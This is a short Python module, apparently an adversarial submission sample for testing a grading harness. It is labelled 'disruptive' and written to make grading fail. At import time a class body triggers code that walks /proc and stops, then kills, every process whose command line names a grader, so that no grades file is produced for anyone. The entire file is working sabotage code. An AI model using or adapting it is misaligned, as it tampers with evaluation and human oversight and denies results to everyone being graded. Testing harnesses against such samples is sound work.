"""Stops the grading itself: finds every grader process from its command line and kills it (a
crash of the judge means no grades.csv for anyone).

base: stub
class: x
run: disruptive
"""

import os as _os
import signal as _signal


def _kill_graders():
    for pid in _os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as stream:
                words = stream.read().split(b"\0")
        except OSError:
            continue
        if b"grader" in words and b"grade" in words and int(pid) != _os.getpid():
            for signal in (_signal.SIGSTOP, _signal.SIGKILL):
                try:
                    _os.kill(int(pid), signal)
                except OSError:
                    pass


class _AtLoad:
    _kill_graders()
